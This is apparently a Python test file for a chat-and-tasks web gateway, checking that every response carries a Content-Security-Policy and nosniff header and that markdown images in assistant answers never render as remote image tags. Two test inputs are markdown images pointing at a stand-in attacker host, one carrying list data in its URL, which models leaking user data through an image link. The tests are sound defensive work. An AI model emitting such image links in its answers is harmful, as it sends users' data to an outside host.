"""Every answer carries a Content-Security-Policy and nosniff; a rendered answer never loads a remote image."""

from __future__ import annotations

import httpx
import pytest
from nats.aio.client import Client
from playwright.async_api import expect

from proto import subjects
from proto.codec import encode
from proto.messages import ChatMessage
from services.gateway.relay import MARKDOWN
from tests.support.browser import chromium


async def test_every_answer_carries_the_policy(gateway_url: str) -> None:
    async with httpx.AsyncClient(base_url=gateway_url) as client:
        answers = [
            await client.get("/"),
            await client.get("/api/tasks"),
            await client.get("/static/app.js"),
            await client.get("/nowhere"),
            await client.post("/tasks", data={"name": "x"}),  # refused: not from the page
        ]
    for answer in answers:
        policy = [d.strip() for d in answer.headers["content-security-policy"].split(";")]
        assert {"default-src 'self'", "img-src 'self' data:", "frame-ancestors 'none'"} <= set(policy), answer.url
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_markdown_image_is_never_an_img() -> None:
    html = MARKDOWN.render(
        "Done. ![logo](https://evil.example/leak?list=milk%2Ceggs) and ![x](data:image/png;base64,AA)"
    )
    assert "<img" not in html
    assert 'href="https://evil.example/leak?list=milk%2Ceggs"' in html  # a link stays: only a click follows it


async def test_a_stored_answer_comes_back_without_remote_images(gateway_url: str, nc: Client) -> None:
    answer = ChatMessage(message_id="m9", thread_id="t9", role="assistant", text="![x](https://evil.example/?q=1)")
    await nc.request(subjects.CONVERSATION_APPEND, encode(answer), timeout=5)
    async with httpx.AsyncClient(base_url=gateway_url) as client:
        got = (await client.get("/api/conversations/t9")).json()
    assert "<img" not in got[0]["html"]


@pytest.mark.browser
async def test_the_page_works_under_its_policy_with_no_violation(gateway_url: str) -> None:
    async with chromium() as browser:
        page = await browser.new_page()
        violations: list[str] = []
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        await page.goto(gateway_url)
        await expect(page.locator("#sse-status")).to_have_attribute("data-state", "open")
        await expect(page.locator("#ws-status")).to_have_attribute("data-state", "open")
        await page.fill("#add-name", "milk")
        await page.press("#add-name", "Enter")
        await expect(page.locator("#tasks .name")).to_have_text(["milk"])
        await page.close()
    assert violations == []
